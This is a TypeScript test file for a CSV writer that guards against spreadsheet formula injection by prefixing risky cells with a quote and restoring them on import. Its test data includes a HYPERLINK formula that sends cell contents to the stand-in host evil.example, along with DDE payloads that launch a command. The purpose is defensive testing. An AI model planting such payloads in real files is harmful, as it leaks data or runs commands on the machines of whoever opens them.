import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { test } from 'node:test';
import { csvBuffer, csvChunks, csvField, csvLine, neutraliseCell, restoreCell } from './csv-writer.js';
import { readCsvRows } from './import/csv-reader.js';

const DANGEROUS = [
  '=HYPERLINK("https://evil.example/?"&A1,"klik")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''@twice",
];

test('text a spreadsheet would run as a formula gets one leading quote (OWASP)', () => {
  for (const text of DANGEROUS) assert.equal(neutraliseCell(text), `'${text}`, text);
  assert.equal(csvField('=1+1', ';'), "'=1+1");
  assert.equal(csvField('@SUM(A1;A2)', ';'), `"'@SUM(A1;A2)"`, 'quoted when it holds the delimiter');
  assert.equal(csvField('=A1&"x"', ','), `"'=A1&""x"""`);
});

test('numbers stay numbers, negative ones too, and ordinary text is untouched', () => {
  for (const text of ['-12', '-12,5', '-0.75', '12,5', '1234', 'Kota Palu', "it's", "'quoted", 'a=b', ''])
    assert.equal(neutraliseCell(text), text, text);
  assert.equal(csvField(-3.5, ';'), '-3.5');
  assert.equal(csvField(null, ';'), '');
  assert.equal(csvField(undefined, ','), '');
  assert.equal(csvLine(['KDD', -7, '-7', null, 'a;b'], ';'), 'KDD;-7;-7;;"a;b"\r\n');
});

test('the reader removes exactly the quote the writer added, so every text reads back unchanged', async () => {
  const texts = [...DANGEROUS, '-12,5', "'quoted", "it's", 'plain', '=x;y', '"=x"', '-'];
  for (const text of texts) assert.equal(restoreCell(neutraliseCell(text)), text, text);
  const file = csvBuffer([['note', 'value'], ...texts.map((t, i) => [t, -i])], { delimiter: ';', bom: true });
  const back: string[][] = [];
  for await (const row of readCsvRows(Readable.from([file]))) back.push(row.cells);
  assert.deepEqual(
    back.slice(1).map((r) => r[0]),
    texts,
  );
  assert.deepEqual(
    back.slice(1).map((r) => r[1]),
    texts.map((_, i) => String(-i)),
  );
});

test('a streamed file equals the whole one and begins with the byte-order mark once', async () => {
  const rows = Array.from({ length: 5000 }, (_, i) => [`=r${i}`, i, 'x'.repeat(20)]);
  let streamed = '';
  for await (const chunk of csvChunks(rows, { delimiter: ',', bom: true })) streamed += chunk;
  assert.equal(streamed, csvBuffer(rows, { delimiter: ',', bom: true }).toString('utf8'));
  assert.equal(streamed.indexOf('\uFEFF', 1), -1);
  assert.ok(streamed.startsWith("\uFEFF'=r0,0,"));
});
